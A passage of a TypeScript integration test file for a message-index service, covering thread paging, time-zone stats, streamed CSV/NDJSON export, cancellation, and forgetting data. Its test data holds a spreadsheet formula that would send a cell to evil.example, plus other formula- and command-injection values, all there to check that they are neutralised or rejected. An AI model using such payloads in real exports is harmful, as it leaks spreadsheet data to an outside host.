           VALUES ($1, 8, 'TSEP', '8', '8', '8', '2026-05-09T10:00:00Z', '14155550199', '14155550199', 'inbound', 'other', '200', 200)`,
          [n],
        )
        for (const asked of forms) {
          const seen: number[] = []
          let before: string | null = null
          let first: ThreadResult | null = null
          for (let guard = 0; guard < 10; guard++) {
            const r: { status: number; body: ThreadResult } = await get<ThreadResult>(
              `/api/index/thread?number=${n}&party=${asked}&limit=3${before ? `&before=${before}` : ''}`,
            )
            expect(r.status).toBe(200)
            first ??= r.body
            seen.push(...r.body.rows.map((x) => x.ordinal))
            before = r.body.nextCursor
            if (!before) break
          }
          expect(seen, asked).toEqual([7, 6, 5, 4, 3, 2, 1])
          expect(first!.firstDate).toBe('2026-05-01T10:00:00Z')
          expect(first!.rows.map((x) => x.position)).toEqual([1, 2, 3])
        }
      } finally {
        await db.query('DELETE FROM index_messages WHERE number = $1', [n])
        await db.query('DELETE FROM index_numbers WHERE number = $1', [n])
      }
    })

    it('answers stats by day and week from the roll-up', async () => {
      const n5 = num(5).number
      const mine = all.filter((m) => m.number === n5)
      const byDay = new Map<string, { inbound: number; outbound: number; failed: number }>()
      for (const m of mine) {
        const d = m.GMTdate.slice(0, 10)
        const b = byDay.get(d) ?? { inbound: 0, outbound: 0, failed: 0 }
        if (m.direction === 'outbound') b.outbound++
        else b.inbound++
        if (/^[45]\d\d/.test(m.status)) b.failed++
        byDay.set(d, b)
      }
      const r = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=day`)
      expect(r.status).toBe(200)
      expect(r.body.buckets).toEqual([...byDay.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([day, v]) => ({ day, ...v })))
      const w = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=week`)
      expect(w.body.buckets.reduce((s, b) => s + b.inbound + b.outbound, 0)).toBe(5000)
      for (const b of w.body.buckets) expect(new Date(`${b.day}T00:00:00Z`).getUTCDay()).toBe(1) // weeks start on Monday
      const acct = await get<StatsResult>('/api/index/stats?bucket=day')
      expect(acct.body.buckets.reduce((s, b) => s + b.inbound + b.outbound, 0)).toBe(all.length)
      expect((await get('/api/index/stats?bucket=month')).status).toBe(400)
      // A zone JavaScript knows and the database's tzdata dropped: a 400 naming tz, not a 500.
      const dropped = await get<{ error: { field?: string; message: string } }>(`/api/index/stats?number=${n5}&tz=US/Pacific-New`)
      expect(dropped.status, JSON.stringify(dropped.body)).toBe(400)
      expect(dropped.body.error).toMatchObject({ field: 'tz' })
    })

    it('answers stats by the days and weeks of a zone, half-hour and DST zones included', async () => {
      // The expectation: the indexed rows' own dates, read in each zone by Intl.
      const rows = await db.query<{ number: string; date: Date; direction: string | null; status_code: number | null }>(
        'SELECT number, date, direction, status_code FROM index_messages',
      )
      expect(rows.rows.length).toBe(all.length)
      const mondayOf = (day: string) => {
        const ms = Date.parse(`${day}T00:00:00Z`)
        return new Date(ms - ((new Date(ms).getUTCDay() + 6) % 7) * 86_400_000).toISOString().slice(0, 10)
      }
      const expected = (tz: string, number: string | null, week: boolean) => {
        const dayOf = new Intl.DateTimeFormat('en-CA', { timeZone: tz, year: 'numeric', month: '2-digit', day: '2-digit' })
        const out = new Map<string, { inbound: number; outbound: number; failed: number }>()
        for (const m of rows.rows) {
          if (number !== null && m.number !== number) continue
          const local = dayOf.format(m.date)
          const key = week ? mondayOf(local) : local
          const b = out.get(key) ?? { inbound: 0, outbound: 0, failed: 0 }
          if (m.direction === 'outbound') b.outbound++
          else b.inbound++
          if (m.status_code !== null && m.status_code >= 400) b.failed++
          out.set(key, b)
        }
        return [...out.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([day, v]) => ({ day, ...v }))
      }
      const n5 = num(5).number
      for (const tz of ['Asia/Kolkata', 'America/New_York', 'UTC']) {
        const d = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=day&tz=${encodeURIComponent(tz)}`)
        expect(d.status).toBe(200)
        expect(d.body.timeZone).toBe(tz)
        expect(d.body.buckets).toEqual(expected(tz, n5, false))
        const w = await get<StatsResult>(`/api/index/stats?bucket=week&tz=${encodeURIComponent(tz)}`)
        expect(w.body.buckets).toEqual(expected(tz, null, true))
      }
      // The Kolkata days differ from the UTC days (a half-hour offset moves messages across midnight).
      expect(expected('Asia/Kolkata', n5, false)).not.toEqual(expected('UTC', n5, false))
      // A day on which New York changes its clocks (23 or 25 hours) is counted whole.
      const ny = expected('America/New_York', null, false)
      const offsetAt = (ms: number) => {
        const p = Object.fromEntries(
          new Intl.DateTimeFormat('en-US', {
            timeZone: 'America/New_York',
            hourCycle: 'h23',
            year: 'numeric',
            month: '2-digit',
            day: '2-digit',
            hour: '2-digit',
          })
            .formatToParts(new Date(ms))
            .map((x) => [x.type, x.value]),
        )
        return Date.UTC(Number(p.year), Number(p.month) - 1, Number(p.day), Number(p.hour)) - Math.floor(ms / 3_600_000) * 3_600_000
      }
      const dst = ny.find((b) => {
        const noon = Date.parse(`${b.day}T12:00:00Z`)
        return offsetAt(noon - 12 * 3_600_000) !== offsetAt(noon + 12 * 3_600_000)
      })
      expect(dst).toBeDefined()
      // from/to are days of the zone: one local day alone is that day's bucket.
      const one = await get<StatsResult>(`/api/index/stats?bucket=day&tz=America/New_York&from=${dst!.day}&to=${dst!.day}`)
      expect(one.body.buckets).toEqual([dst])
      // Without tz the days stay UTC days.
      const utc = await get<StatsResult>(`/api/index/stats?number=${n5}&bucket=day`)
      expect(utc.body.timeZone).toBe('UTC')
      expect(utc.body.buckets).toEqual(expected('UTC', n5, false))
      for (const bad of ['Mars/Olympus', '+05:30', 'UTC;DROP']) {
        const r = await get<{ error: { field?: string; message: string } }>(`/api/index/stats?tz=${encodeURIComponent(bad)}`)
        expect(r.status).toBe(400)
        expect(JSON.stringify(r.body)).toContain('tz')
      }
    })

    it('locates the newest message of a day and serves one message', async () => {
      const n0 = num(0).number
      const mine = all.filter((m) => m.number === n0)
      const target = mine[1500]!
      const day = target.GMTdate.slice(0, 10)
      const expected = mine.find((m) => m.GMTdate.slice(0, 10) <= day)!
      const r = await get<{ message: { ordinal: number; position: number }; total: number }>(`/api/index/locate?number=${n0}&date=${day}`)
      expect(r.status).toBe(200)
      expect(r.body.message.ordinal).toBe(expected.ordinal)
      expect(r.body.message.position).toBe(2345 - expected.ordinal + 1)
      const before = await get<{ message: null }>(`/api/index/locate?number=${n0}&date=2001-01-01`)
      expect(before.body.message).toBeNull()
      const one = await get<{ message: { body: string; systemId: string; statusCode: number } }>(
        `/api/index/message?number=${n0}&ordinal=${target.ordinal}`,
      )
      expect(one.body.message).toMatchObject({ body: target.body, systemId: String(target.system_id) })
      expect((await get(`/api/index/message?number=${n0}&ordinal=999999`)).status).toBe(404)
    })

    it('exports CSV (RFC 4180, BOM, neutralised formulas, two date columns) and NDJSON, streamed', async () => {
      const n7 = num(7).number
      const r = await fetch(`${apiUrl}/api/index/export?numbers=${n7}&format=csv&tz=Europe/Paris`)
      expect(r.status).toBe(200)
      expect(r.headers.get('content-disposition')).toMatch(
        new RegExp(`attachment; filename="switchboard-history-${n7}-24-rows-\\d{4}-\\d{2}-\\d{2}\\.csv"`),
      )
      const bytes = Buffer.from(await r.arrayBuffer())
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]) // the BOM
      const rows = parseCsv(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>
      expect(rows.length).toBe(24)
      // The one layout of every message export (the History page's exports write it too).
      expect(Object.keys(rows[0]!)).toEqual(messageCsvHeader('Europe/Paris'))
      const bodies = rows.map((x) => x.body!)
      expect(bodies).toContain(`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`)
      expect(bodies).toContain("'@SUM(A1:A2)")
      expect(bodies).toContain('nulbyte')
      // Every text cell is exactly what csv.ts makes of the upstream's value (bodies come by id,
      // other cells through a cache: both must keep the same rules).
      const truth = new Map(all.filter((m) => m.number === n7).map((m) => [String(m.system_id), m]))
      for (const row of rows) {
        const m = truth.get(row.system_id!)!
        expect(row.body).toBe(neutralise(m.body))
        expect(row.party).toBe(neutralise(m.phone))
        expect(row.status).toBe(statusWord(upstreamStatusCode(m.status)))
        expect(row.status_raw).toBe(neutralise(m.status))
      }
      expect(rows[0]!.date_utc).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/)
      // 2026-11-20 is winter time in Paris: UTC+1.
      const utc = Date.parse(rows[0]!.date_utc!)
      expect(rows[0]!['date_local (Europe/Paris)']).toBe(new Date(utc + 3_600_000).toISOString().slice(0, 19).replace('T', ' '))
      expect(audits.some(([a, d]) => a === 'history.export.done' && d.rows === 24)).toBe(true)

      const filtered = await fetch(`${apiUrl}/api/index/export?q=appointment&numbers=${num(0).number}&format=ndjson`)
      expect(filtered.headers.get('content-disposition')).toMatch(/text-appointment-\d+-rows/)
      const lines = (await filtered.text())
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { body: string })
      expect(lines.length).toBe(all.filter((m) => m.number === num(0).number && m.body.toLowerCase().includes('appointment')).length)
      expect((await fetch(`${apiUrl}/api/index/export?tz=Mars/Olympus`)).status).toBe(400)
      expect((await fetch(`${apiUrl}/api/index/export?format=pdf`)).status).toBe(400)

      // The whole index, read by a client that stops early: the server lets go.
      const ctrl = new AbortController()
      const big = await fetch(`${apiUrl}/api/index/export?format=csv`, { signal: ctrl.signal })
      const reader = big.body!.getReader()
      await reader.read()
      ctrl.abort()
      await reader.cancel().catch(() => {})
      const after = await get<IndexStatus>('/api/index/status')
      expect(after.status).toBe(200)
    })

    it('exports every cell as csv.ts makes it, the same whatever the batch size', async () => {
      const n0 = num(0).number
      const http = async (format: string) =>
        // Bytes decoded by hand: Response.text() drops the BOM the export starts with.
        Buffer.from(
          await (await fetch(`${apiUrl}/api/index/export?numbers=${n0}&format=${format}&tz=Europe/Paris`)).arrayBuffer(),
        ).toString()
      const direct = async (format: 'csv' | 'ndjson', batch: number) => {
        const out = new Collect()
        const params = new Map([['numbers', n0]])
        await streamExport(db, new EventEmitter() as IncomingMessage, out as unknown as ServerResponse, {
          filters: parseFilters(params),
          params,
          format,
          tz: 'Europe/Paris',
          logStart: async () => {},
          audit: () => {},
          log: () => {},
          batch,
        })
        return out.text()
      }
      // 2,345 rows: batches of 100 and of 7 cross many keyset boundaries, the default none or few.
      const csv = await http('csv')
      expect(await direct('csv', 100)).toBe(csv)
      expect(await direct('csv', 7)).toBe(csv)
      expect(await direct('ndjson', 100)).toBe(await http('ndjson'))
      const rows = parseCsv(csv.slice(1), { columns: true }) as Array<Record<string, string>>
      const truth = all.filter((m) => m.number === n0)
      expect(rows.length).toBe(truth.length)
      const bySystemId = new Map(truth.map((m) => [String(m.system_id), m]))
      const total = Math.max(...truth.map((m) => m.ordinal))
      // An independent formatter (Swedish dates read YYYY-MM-DD HH:MM:SS) for the local column.
      const paris = new Intl.DateTimeFormat('sv-SE', { timeZone: 'Europe/Paris', dateStyle: 'short', timeStyle: 'medium' })
      for (const row of rows) {
        const m = bySystemId.get(row.system_id!)!
        const utc = apiDateToIso(m.GMTdate)!.replace(/\.000Z$/, 'Z')
        expect(row).toEqual({
          number: n0,
          ordinal: String(m.ordinal),
          position: String(total - m.ordinal + 1),
          date_utc: utc,
          'date_local (Europe/Paris)': paris.format(new Date(utc)),
          party: neutralise(m.phone),
          direction: neutralise(m.direction),
          body: neutralise(m.body),
          mms: m.mms === 'yes' ? 'yes' : 'no',
          media_url: neutralise(m.mms_url),
          // One word whatever the upstream's spelling; its own text beside it.
          status: statusWord(upstreamStatusCode(m.status)),
          status_raw: neutralise(m.status),
          status_code: /^\d{3}/.exec(m.status)?.[0] ?? '',
          message_id: neutralise(m.message_id),
          system_id: String(m.system_id),
          tid: num(0).tid,
          message_tid: neutralise(m.tid),
        })
      }
      // Newest first, every row once.
      expect(new Set(rows.map((r) => r.ordinal)).size).toBe(rows.length)
      for (let k = 1; k < rows.length; k++) expect(rows[k - 1]!.date_utc! >= rows[k]!.date_utc!).toBe(true)
    }, 60_000)

    it('keeps a progress record per export id: rows and bytes as written, the file name, how it ended', async () => {
      const n0 = num(0).number
      const job = `test-${engine}-done`
      const r = await fetch(`${apiUrl}/api/index/export?numbers=${n0}&format=csv&job=${job}`)
      const bytes = Buffer.from(await r.arrayBuffer())
      const rows = parseCsv(bytes.subarray(3).toString('utf8'), { columns: true }) as unknown[]
      const p = await get<ExportProgress>(`/api/index/export/progress?job=${job}`)
      expect(p.status).toBe(200)
      expect(p.body).toMatchObject({ job, state: 'done', rows: rows.length, total: rows.length, bytes: bytes.length })
      expect(r.headers.get('content-disposition')).toBe(`attachment; filename="${p.body.fileName}"`)
      // An id nobody started, or not an id at all.
      expect((await get(`/api/index/export/progress?job=never-started`)).status).toBe(404)
      const bad = await get<{ error: { field: string } }>('/api/index/export/progress?job=a%20b')
      expect([bad.status, bad.body.error.field]).toEqual([400, 'job'])

      // Refused before the first byte: the record says why, in the envelope, naming the field.
      const refused = `test-${engine}-refused`
      expect((await fetch(`${apiUrl}/api/index/export?tz=Mars/Olympus&job=${refused}`)).status).toBe(400)
      const why = await get<ExportProgress>(`/api/index/export/progress?job=${refused}`)
      expect(why.body).toMatchObject({ state: 'failed', error: { kind: 'invalid_request', field: 'tz' } })

      // Cancelling an export that has ended changes nothing.
      const c = await fetch(`${apiUrl}/api/index/export/cancel`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ job }),
      })
      expect(c.status).toBe(200)
      expect(((await c.json()) as ExportProgress).state).toBe('done')

      // Cancelled while the download's request is still on its way: that request, when it
      // arrives, is refused, so the browser writes no file the person cancelled.
      const early = `test-${engine}-early`
      const pre = await fetch(`${apiUrl}/api/index/export/cancel`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ job: early }),
      })
      expect(pre.status).toBe(200)
      expect(await pre.json()).toMatchObject({ job: early, state: 'cancelled', cancelledBy: 'you', rows: 0 })
      const late = await fetch(`${apiUrl}/api/index/export?numbers=${n0}&format=csv&job=${early}`)
      expect(late.status).toBe(409)
      expect(await late.json()).toMatchObject({ error: { field: 'job', message: 'This export was cancelled before it started.' } })
      expect((await get<ExportProgress>(`/api/index/export/progress?job=${early}`)).body).toMatchObject({ state: 'cancelled', rows: 0 })
    })

    it('stops reading the database when an export is cancelled, and cuts the response', async () => {
      const tracker = createExportTracker()
      const hooks = tracker.begin('ada', 'cancel-me-1')
      const out = new Collect()
      const params = new Map([['numbers', num(0).number]])
      const updates: number[] = []
      await streamExport(db, new EventEmitter() as IncomingMessage, out as unknown as ServerResponse, {
        filters: parseFilters(params),
        params,
        format: 'csv',
        tz: 'UTC',
        logStart: async () => {},
        audit: () => {},
        log: () => {},
        batch: 100,
        job: {
          ...hooks,
          update: (patch) => {
            hooks.update(patch)
            if (patch.rows !== undefined) {
              updates.push(patch.rows)
              // Cancel as the second batch is written: what the tray's Cancel does.
              if (patch.rows === 200) tracker.cancel('ada', 'cancel-me-1')
            }
          },
        },
      })
      const record = tracker.get('ada', 'cancel-me-1')
      expect(record).toMatchObject({ state: 'cancelled', cancelledBy: 'you', rows: 200, total: 2345 })
      // No batch after the cancel was read or written, and the response was destroyed, not ended.
      expect(updates).toEqual([100, 200])
      expect(out.destroyed).toBe(true)
      expect(parseCsv(out.text().slice(1), { columns: true })).toHaveLength(200)
      // Another person's id is not theirs to read or cancel.
      expect(() => tracker.get('vic', 'cancel-me-1')).toThrow(/no export by that id/)
    })

    it('exports upstream texts holding the separators of its text batches exactly', async () => {
      // The CSV path reads each batch as one text, fields and rows cut at U+001F and U+001E; texts
      // holding them (one even shaped like a whole extra row) must come out as they are.
      const n = '19990000001'
      const fake = `\u001e${n}\u001fT\u001fT\u001f99\u001f1\u001fm\u001f0\u001f\u001f1\u001finbound\u001f\u001f\u001ff\u001f\u001f200\u001f200`
      const texts = [
        {
          ordinal: 3,
          date: '2026-05-01T10:00:00Z',
          dateRaw: null,
          phone: `1555\u001f0001`,
          messageId: `a\u001fb`,
          status: `200 ok\u001e`,
          body: `hi\u001ethere\u001f!`,
        },
        {
          ordinal: 2,
          date: '2026-05-01T09:00:00Z',
          dateRaw: `not a date\u001f`,
          phone: '15550001',
          messageId: `=1+1${fake}`,
          status: '400',
          body: '=cmd',
        },
        { ordinal: 1, date: '2026-05-01T08:00:00Z', dateRaw: null, phone: '15550001', messageId: 'm1', status: '200', body: 'plain' },
      ]
      try {
        await db.query(
          `INSERT INTO index_numbers (number, tid, upstream_total, top_ordinal, indexed, full_done, state) VALUES ($1, 'TSEP', 3, 3, 3, true, 'idle')`,
          [n],
        )
        for (const t of texts) {
          const b = await db.query<{ id: number }>('INSERT INTO index_bodies (body) VALUES ($1) RETURNING id', [t.body])
          // Ordinal 2's status by id, as the sync stores it (migration 410); the others their own
          // text, as rows stored before: one batch holds both.
          const byId = t.ordinal === 2
          const s = byId ? await db.query<{ id: number }>('INSERT INTO index_statuses (status) VALUES ($1) RETURNING id', [t.status]) : null
          await db.query(
            `INSERT INTO index_messages (number, ordinal, fetched_tid, tid, system_id, message_id, date, date_raw, phone, party_digits, direction, body, body_id, mms, media_url, status, status_code, status_id)
             VALUES ($1, $2, 'TSEP', $3, $4, $5, $6, $7, $8, '15550001', 'inbound', $9, $10, false, NULL, $11, $12, $13)`,
            [
              n,
              t.ordinal,
              `T\u001e${t.ordinal}`,
              String(t.ordinal),
              t.messageId,
              t.date,
              t.dateRaw,
              t.phone,
              t.body,
              b.rows[0]!.id,
              byId ? null : t.status,
              Number(t.status.slice(0, 3)),
              s?.rows[0]!.id ?? null,
            ],
          )
          await db.query('INSERT INTO index_body_counts (body_id, number, count) VALUES ($1, $2, 1)', [b.rows[0]!.id, n])
        }
        const r = await fetch(`${apiUrl}/api/index/export?numbers=${n}&format=csv&tz=UTC`)
        const bytes = Buffer.from(await r.arrayBuffer())
        expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
        const rows = parseCsv(bytes.subarray(3).toString(), { columns: true }) as Array<Record<string, string>>
        expect(rows.map((x) => x.ordinal)).toEqual(['3', '2', '1'])
        for (const [k, t] of texts.entries()) {
          expect(rows[k]).toMatchObject({
            number: n,
            position: String(4 - t.ordinal),
            date_utc: t.dateRaw === null ? t.date : neutralise(t.dateRaw),
            'date_local (UTC)': t.dateRaw === null ? t.date.slice(0, 19).replace('T', ' ') : '',
            party: neutralise(t.phone),
            body: neutralise(t.body),
            status: statusWord(upstreamStatusCode(t.status)),
            status_raw: neutralise(t.status),
            message_id: neutralise(t.messageId),
            message_tid: neutralise(`T\u001e${t.ordinal}`),
          })
        }
        const nd = (await (await fetch(`${apiUrl}/api/index/export?numbers=${n}&format=ndjson`)).text())
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l) as { messageId: string; phone: string; status: string })
        expect(nd.map((x) => [x.messageId, x.phone, x.status])).toEqual(texts.map((t) => [t.messageId, t.phone, t.status]))
        const found = await get<SearchResult>(`/api/index/search?numbers=${n}`)
        expect(found.body.rows.map((x) => x.status)).toEqual(texts.map((t) => t.status))
      } finally {
        await db.query('DELETE FROM index_statuses WHERE id IN (SELECT status_id FROM index_messages WHERE number = $1)', [n])
        await db.query(
          'DELETE FROM index_bodies WHERE id IN (SELECT body_id FROM index_messages WHERE number = $1 AND body_id IS NOT NULL)',
          [n],
        )
        await db.query('DELETE FROM index_body_counts WHERE number = $1', [n])
        await db.query('DELETE FROM index_messages WHERE number = $1', [n])
        await db.query('DELETE FROM index_numbers WHERE number = $1', [n])
      }
    })

    it('syncs a number the index has not seen only when the account lists it (its tid taken from the listing); a made-up one is a 404', async () => {
      const sync = (body: unknown) =>
        fetch(`${apiUrl}/api/index/sync`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
      const madeUp = await sync({ number: '19999999999', tid: 'ZZZZ' })
      expect(madeUp.status).toBe(404)
      expect(((await madeUp.json()) as { error: { field: string; message: string } }).error).toMatchObject({
        field: 'number',
        message: "The account has no number 19999999999: the index keeps the account's own numbers.",
      })
      const st = await get<IndexStatus>('/api/index/status')
      expect(st.body.numbers.map((n) => n.number)).not.toContain('19999999999')
      expect(st.body.freshness.incomplete).not.toContain('19999999999')
      // A listed number the index has not seen yet, sent without its tid: the listing's tid is used.
      const n2 = num(2)
      await forget(db, n2.number, deskIndexHooks)
      await db.query('DELETE FROM index_numbers WHERE number = $1', [n2.number])
      const listed = await sync({ number: n2.number })
      expect(listed.status, await listed.clone().text()).toBe(202)
      const row = await db.query<{ tid: string }>('SELECT tid FROM index_numbers WHERE number = $1', [n2.number])
      expect(row.rows[0]!.tid).toBe(n2.tid)
      // Indexed again, as the tests after this one expect it.
      await expect
        .poll(async () => (await get<IndexStatus>(`/api/index/status?number=${n2.number}`)).body.numbers[0], { timeout: 20_000 })
        .toMatchObject({ state: 'idle', indexed: 1 })
    })

    it('forgets one number, then all, with the roll-up and sync state', async () => {
      const n3 = num(3).number
      const forget = (body: unknown) =>
        fetch(`${apiUrl}/api/index/forget`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
      expect((await forget({})).status).toBe(400)
      const r = await forget({ number: n3 })
      expect(r.status).toBe(200)
      expect(await r.json()).toEqual({ forgotten: 36 })
      expect((await get<SearchResult>(`/api/index/search?numbers=${n3}&q=a`)).body.total).toBe(0)
      expect((await get<StatsResult>(`/api/index/stats?number=${n3}`)).body.buckets).toEqual([])
      expect((await get<StatsResult>(`/api/index/stats?number=${n3}&tz=Asia/Kolkata`)).body.buckets).toEqual([])
      const slots = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM index_quarter_hours WHERE number = $1', [n3])
      expect(slots.rows[0]!.n).toBe(0)
      const st = await get<IndexStatus>('/api/index/status')
      expect(st.body.numbers.find((n) => n.number === n3)).toMatchObject({ state: 'never', indexed: 0, lastSyncedAt: null })
      expect(st.body.freshness.incomplete).toContain(n3)
      // The bodies only that number used are gone with it (they are customer data too).
      await checkBodies()
      const orphans = await db.query<{ n: number }>(
        'SELECT count(*)::int AS n FROM index_bodies b WHERE NOT EXISTS (SELECT 1 FROM index_messages m WHERE m.body_id = b.id)',
      )
      expect(orphans.rows[0]!.n).toBe(0)
      const everything = await forget({ all: true })
      expect(((await everything.json()) as { forgotten: number }).forgotten).toBe(all.length - 36)
      const left = await db.query<{ n: number }>(
        'SELECT (SELECT count(*) FROM index_messages) + (SELECT count(*) FROM index_daily) + (SELECT count(*) FROM index_quarter_hours) + (SELECT count(*) FROM index_parties) + (SELECT count(*) FROM index_bodies) + (SELECT count(*) FROM index_body_counts) + (SELECT count(*) FROM index_statuses) AS n',
      )
      expect(Number(left.rows[0]!.n)).toBe(0)
      expect(audits.some(([a]) => a === 'index.forget')).toBe(true)
    })
  })
})

describe('INDEX=off', () => {
  it('answers every index path with 503 index_off', async () => {
    const sim = createSimulator()
    const { server, url } = await sim.listen(0, '127.0.0.1')
    const fw = createForwarder({ baseUrl: url, ...DEMO_CREDENTIALS }, 2000)
    const index = await createIndex(parseIndexConfig({ INDEX: 'off' }), { hooks: deskIndexHooks, forwarder: fw })
    expect(index.db).toBeNull()
    const app = createApp(parseConfig({ API_BASE_URL: url, API_SYS_ID: 'x', API_AUTH_TOKEN: 'y' }), { forwarder: fw, routes: index.routes })
    const api = createServer((req, res) => app(req, res))
    await new Promise<void>((ok) => api.listen(0, '127.0.0.1', ok))
    const r = await fetch(`http://127.0.0.1:${(api.address() as AddressInfo).port}/api/index/search?q=x`)
    expect(r.status).toBe(503)
    expect(await r.json()).toEqual({ error: { kind: 'index_off', message: 'The message index is off on this server (INDEX=off).' } })
    api.closeAllConnections()
    api.close()
    await index.close()
    await fw.close()
    server.close()
  })

  it('keeps 4 PostgreSQL connections unless DATABASE_POOL_SIZE says otherwise', () => {
    expect(parseIndexConfig({}).databasePoolSize).toBe(4)
    expect(parseIndexConfig({ DATABASE_POOL_SIZE: '12' }).databasePoolSize).toBe(12)
    expect(() => parseIndexConfig({ DATABASE_POOL_SIZE: 'many' })).toThrow(/DATABASE_POOL_SIZE must be a whole number/)
  })

  it('reports every bad variable by name', () => {
    const bad = () =>
      parseIndexConfig({ INDEX: 'maybe', SYNC_RATE: '-1', DATABASE_URL: 'mysql://x', SYNC_CONCURRENCY: '99', DATABASE_POOL_SIZE: '1' })
    expect(bad).toThrow(/INDEX must be on or off/)
    expect(bad).toThrow(/DATABASE_POOL_SIZE must be between 2 and 100/)
    expect(bad).toThrow(/SYNC_RATE must be a whole number/)
    expect(bad).toThrow(/DATABASE_URL must be a postgres:\/\/ URL/)
    expect(bad).toThrow(/SYNC_CONCURRENCY must be between 1 and 16/)
  })
})

describe('PGlite data directory and migrations', () => {
  it('keeps the data owner-only and applies each migration once', async () => {
    const { mkdtempSync, readdirSync, rmSync, statSync } = await import('node:fs')
    const { tmpdir } = await import('node:os')
    const { join } = await import('node:path')
    const { openDb } = await import('../db/open.ts')
    const { readMigrations } = await import('../db/migrate.ts')
    const root = mkdtempSync(join(tmpdir(), 'switchboard-perm-'))
    const dir = join(root, 'data')
    try {
      const applied: string[] = []
      const db = await openDb({ dataDir: dir, log: (l) => applied.push(l) })
      await db.close()
      const files = readMigrations()
      expect(applied.length).toBe(files.length)
      const loose: string[] = []
      const walk = (d: string) => {
        if ((statSync(d).mode & 0o077) !== 0) loose.push(d)
        for (const e of readdirSync(d, { withFileTypes: true })) {
          if (e.isDirectory()) walk(join(d, e.name))
          else if (e.isFile() && (statSync(join(d, e.name)).mode & 0o077) !== 0) loose.push(join(d, e.name))
        }
      }
      walk(dir)
      expect(loose).toEqual([])
      const again: string[] = []
      const db2 = await openDb({ dataDir: dir, log: (l) => again.push(l) })
      const recorded = await db2.query<{ version: number }>('SELECT version FROM schema_migrations ORDER BY version')
      expect(recorded.rows.map((r) => r.version)).toEqual(files.map((f) => f.version))
      await db2.close()
      expect(again).toEqual([])
    } finally {
      rmSync(root, { recursive: true, force: true })
    }
    // Two fresh PGlite opens (a worker each, every migration once): seconds apiece on a busy 2-core machine.
  }, 120_000)
})
